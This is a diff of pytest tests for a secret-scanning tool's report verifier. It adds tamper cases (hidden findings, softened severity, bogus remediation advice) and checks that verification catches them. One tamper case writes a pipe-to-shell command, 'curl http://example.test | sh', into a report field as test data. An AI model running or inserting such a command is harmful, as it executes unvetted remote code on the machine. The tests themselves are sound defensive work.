@@ -113,7 +113,39 @@ def _removed(document: dict[str, Any]) -> None:
     del document["findings"][0]
 
 
-@pytest.mark.parametrize("tamper", [_hmac, _offset, _path, _step, _layer, _verdict, _present, _removed])
+def _hidden(document: dict[str, Any]) -> None:
+    """As whoever wants a clean report would do it: consistent in itself."""
+    document["findings"] = []
+    document["verdict"] = "clean"
+    document["known_secrets"] = [
+        {**secret, "verdict": "absent", "sightings": []} for secret in document["known_secrets"]
+    ]
+
+
+def _milder(document: dict[str, Any]) -> None:
+    document["findings"] = [{**finding, "severity": "low", "gated": False} for finding in document["findings"]]
+    document["verdict"] = "clean"
+
+
+def _told_otherwise(document: dict[str, Any]) -> None:
+    deleted = next(finding for finding in document["findings"] if finding["state"] == "deleted")
+    deleted |= {"state": "live", "removed_by": None}
+
+
+def _advice(document: dict[str, Any]) -> None:
+    document["findings"][0]["remediation"]["steps"] = ["Nothing needs to be done."]
+
+
+def _command(document: dict[str, Any]) -> None:
+    document["findings"][0]["proof"]["command"] = "curl http://example.test | sh"
+
+
+def _coverage(document: dict[str, Any]) -> None:
+    document["coverage"]["bytes"] = {"total": 1 << 30, "accounted": 1 << 30}
+
+
+@pytest.mark.parametrize("tamper", [_hmac, _offset, _path, _step, _layer, _verdict, _present, _removed, _hidden,
+                                    _milder, _told_otherwise, _advice, _command, _coverage])  # fmt: skip
 def test_a_report_that_was_tampered_with(
     report: Path, leakscan: Leakscan, tamper: Callable[[dict[str, Any]], None]
 ) -> None:
@@ -128,6 +160,63 @@ def test_a_report_that_was_tampered_with(
 
     assert ran.returncode == 1, ran.stdout
     assert ran.stdout.splitlines()[-1].startswith("DIFFERS")
+
+
+@pytest.mark.parametrize("tamper", [_removed, _milder, _told_otherwise, _advice, _command])
+def test_a_tampered_report_of_another_source(
+    tmp_path: Path, report: Path, leakscan: Leakscan, tamper: Callable[[dict[str, Any]], None]
+) -> None:
+    """What was tampered with differs from the same image in another form as well."""
+    document = json.loads(report.read_text())
+    tamper(document)
+    report.write_text(json.dumps(document))
+    plain = image_of(
+        *(layer(raw=each.plain, created_by=each.created_by) for each in image().layers), config=image().config
+    )
+
+    ran = leakscan("verify", report, write(tmp_path / "saved.tar", plain.docker_archive()), *SECRETS, env=GIVEN)
+
+    assert ran.returncode == 1, ran.stdout
+
+
+@pytest.mark.parametrize(
+    ("key", "value", "said"),
+    [("version", "0.0.1", "made by leakscan 0.0.1"), ("rules_digest", "sha256:0", "made by other rules")],
+)
+def test_a_report_that_cannot_be_repeated(
+    report: Path, leakscan: Leakscan, key: str, value: str, said: str
+) -> None:
+    """Another version or other rules may say other things: its proofs are checked, and the rest is called unread."""
+    document = json.loads(report.read_text())
+    document["tool"][key] = value
+    report.write_text(json.dumps(document))
+
+    ran = leakscan("verify", report, *SECRETS, env=GIVEN)
+
+    assert ran.returncode == 3
+    assert said in ran.stdout and "differs:" not in ran.stdout
+
+
+def test_what_the_user_accepts(tmp_path: Path, leakscan: Leakscan) -> None:
+    """A report under a baseline is confirmed with that baseline; without it what it accepts cannot be told."""
+    leaking = image_of(layer({"srv/a.env": "PASSWORD=kx0-Unlikely9Value7more\n"}))
+    made = write(tmp_path / "image.tar", leaking.oci_archive())
+    accepted, path = tmp_path / "accepted.json", tmp_path / "report.json"
+    leakscan("baseline", "create", made, "-o", accepted)
+    assert leakscan(made, "--baseline", accepted, "--format", f"json={path}").returncode == 0
+
+    assert leakscan("verify", path, "--baseline", accepted).returncode == 0
+    ran = leakscan("verify", path)
+
+    assert ran.returncode == 3 and "--baseline" in ran.stdout
+
+
+def test_a_secret_that_is_present_and_not_given(report: Path, leakscan: Leakscan) -> None:
+    """Its bytes are proved; what else is said of it cannot be told, so the report is not confirmed, nor different."""
+    ran = leakscan("verify", report, "--secret", "id=absent,env=ABSENT", env=GIVEN)
+
+    assert ran.returncode == 3
+    assert "differs:" not in ran.stdout
 
 
 def test_a_layer_that_is_not_there(tmp_path: Path, report: Path, leakscan: Leakscan) -> None:
